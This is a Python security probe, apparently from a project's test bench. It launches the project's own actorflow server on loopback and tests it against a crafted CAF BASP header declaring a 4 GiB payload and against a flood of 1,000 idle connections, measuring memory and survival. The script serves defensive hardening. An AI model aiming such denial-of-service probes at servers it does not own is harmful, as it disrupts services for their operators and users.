#!/usr/bin/env python3
"""Attacks on an `actorflow server` from a stranger on the same host (issue 21).

Starts one server without a secret (plain CAF, loopback) and one with the
secret file given (mutual TLS), and against each: one 32-byte BASP header
declaring a payload of 4 GiB, then 1,000 idle connections. Prints the
server's resident memory before and after each, and whether it is alive.

usage: python3 bench/security/attack_probe.py build/bin/actorflow SECRET_FILE
(make a secret file with `(umask 077; openssl rand -hex 32 > FILE)`)
"""
import re
import socket
import struct
import subprocess
import sys
import time


def rss_mib(pid):
    try:
        with open(f"/proc/{pid}/status") as status:
            for line in status:
                if line.startswith("VmRSS"):
                    return int(line.split()[1]) // 1024
    except FileNotFoundError:
        pass
    return None


def start_server(binary, args):
    server = subprocess.Popen([binary, "server", "--port", "0"] + args, stdout=subprocess.PIPE,
                              stderr=subprocess.STDOUT, text=True)
    for line in server.stdout:
        found = re.search(r"listening on 127\.0\.0\.1:(\d+)", line)
        if found:
            return server, int(found.group(1))
    raise RuntimeError("the server did not start")


def attack(binary, label, args):
    server, port = start_server(binary, args)
    time.sleep(0.5)
    before = rss_mib(server.pid)
    # CAF 0.17's BASP header: operation, 3 bytes padding, flags, payload length, ...
    header = bytes([1]) + bytes(3) + struct.pack(">I", 0) + struct.pack(">I", 0xFFFFFFFF)
    header += bytes(32 - len(header))
    big = socket.create_connection(("127.0.0.1", port))
    big.sendall(header)
    time.sleep(2)
    after_header = rss_mib(server.pid)
    idle = []
    for _ in range(1000):
        try:
            idle.append(socket.create_connection(("127.0.0.1", port), timeout=2))
        except OSError:
            break
    time.sleep(2)
    after_idle = rss_mib(server.pid)
    alive = server.poll() is None
    print(f"{label}: RSS before {before} MiB; after a header declaring 4 GiB: {after_header} MiB; "
          f"after {len(idle)} idle connections: {after_idle} MiB; alive: {alive}")
    for connection in idle:
        connection.close()
    big.close()
    server.terminate()
    server.wait()


def main():
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    binary, secret_file = sys.argv[1], sys.argv[2]
    attack(binary, "without a secret (plain CAF)", [])
    attack(binary, "with a secret (mutual TLS)", ["--secret_file", secret_file])


if __name__ == "__main__":
    main()
